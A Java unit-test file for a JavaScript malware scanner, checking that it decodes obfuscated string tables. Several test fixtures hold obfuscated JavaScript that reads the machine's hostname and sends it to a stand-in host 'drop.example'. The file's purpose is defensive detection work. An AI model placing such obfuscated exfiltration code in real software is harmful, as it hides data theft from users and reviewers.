package cordon.inspect.javascript;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.rules.Rules;
import java.io.IOException;
import java.io.InputStream;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that an obfuscator hid in a table are seen where the code uses them. */
final class TextTableTest {
  private static final JavaScriptReader READER =
      new JavaScriptReader(Rules.own(false).build().vocabulary());

  /** One harmless report of a host's name, rewritten by one tool with various settings. */
  @ParameterizedTest
  @ValueSource(strings = {"plain", "base64", "rc4", "mixed", "flattened"})
  void whatIsHiddenInATableIsRead(String settings) throws IOException {
    FileFacts read = READER.read("a.js", file(settings));

    assertThat(read.facts())
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(Behaviour.SEND);
          assertThat(fact.inputs()).contains(Behaviour.HOST_INFO);
        });
    assertThat(read.facts())
        .anySatisfy(fact -> assertThat(fact.detail()).isEqualTo("user"))
        .anySatisfy(fact -> assertThat(fact.detail()).isEqualTo("hostname"));
    assertThat(read.doubts()).isEmpty();
  }

  @Test
  void anOlderWayOfTurningTheTableIsRead() {
    String code =
        """
        var _0x4a=['request','https','example','os','hostname'];
        (function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4a,0x6));
        var _0x5c=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x5=_0x4a[_0x1];return _0x5;};
        require(_0x5c('0x0'))[_0x5c('0x4')]({host:'drop.'+_0x5c('0x1')})['end'](require(_0x5c('0x2'))[_0x5c('0x3')]());
        """;

    assertThat(READER.read("a.js", code.getBytes(UTF_8)).facts())
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(Behaviour.SEND);
          assertThat(fact.inputs()).contains(Behaviour.HOST_INFO);
        });
  }

  @Test
  void aTableIsTurnedToASumWithAFraction() {
    String code =
        """
        function t(){const x=['os','9zz','hostname','request','https','7xy','example'];t=function(){return x;};return t();}
        function d(a,b){a=a-0x1;const l=t();let r=l[a];return r;}
        (function(f,n){const g=f();while(!![]){try{const s=parseInt(d(0x3))/0x2+-parseInt(d(0x6))/0x4;if(s===n)break;else g['push'](g['shift']());}catch(e){g['push'](g['shift']());}}}(t,1.25));
        require(d(0x2))[d(0x1)]({host:'drop.'+d(0x4)})['end'](require(d(0x5))[d(0x7)]());
        """;

    assertThat(READER.read("a.js", code.getBytes(UTF_8)).facts())
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(Behaviour.SEND);
          assertThat(fact.inputs()).contains(Behaviour.HOST_INFO);
        });
  }

  @Test
  void aTableThatCannotBeTurnedIsLeftAlone() {
    String code =
        """
        function t(){const x=['1a','2b','3c','4d'];t=function(){return x;};return t();}
        function d(a,b){a=a-0x1;const l=t();let r=l[a];return r;}
        (function(f,n){const g=f();while(!![]){try{const s=parseInt(d(0x1))/0x0;if(s===n)break;else g['push'](g['shift']());}catch(e){g['push'](g['shift']());}}}(t,0x99999));
        require(d(0x2))[d(0x3)](d(0x4));
        """;

    FileFacts read = READER.read("a.js", code.getBytes(UTF_8));

    assertThat(read.facts()).extracting(f -> f.behaviour()).contains(Behaviour.OBFUSCATED);
    assertThat(read.facts())
        .extracting(f -> f.behaviour())
        .doesNotContainAnyElementsOf(Set.of(Behaviour.SEND, Behaviour.RUN_PROCESS));
  }

  @ParameterizedTest
  @ValueSource(strings = {"base64", "rc4", "flattened"})
  void damagedTablesAreReadToTheirEnd(String settings) throws IOException {
    long seed = new Random().nextLong();
    Random random = new Random(seed);
    byte[] whole = file(settings);
    for (int i = 0; i < 60; i++) {
      byte[] damaged = whole.clone();
      for (int edits = 1 + random.nextInt(8); edits > 0; edits--) {
        damaged[random.nextInt(damaged.length)] =
            (byte) "(){}[]'\"=-;,0x_^".charAt(random.nextInt(16));
      }
      assertThat(READER.read("a.js", damaged)).as("seed " + seed).isNotNull();
    }
  }

  private static byte[] file(String settings) throws IOException {
    try (InputStream in =
        TextTableTest.class.getResourceAsStream("obfuscated/" + settings + ".js")) {
      return in.readAllBytes();
    }
  }
}
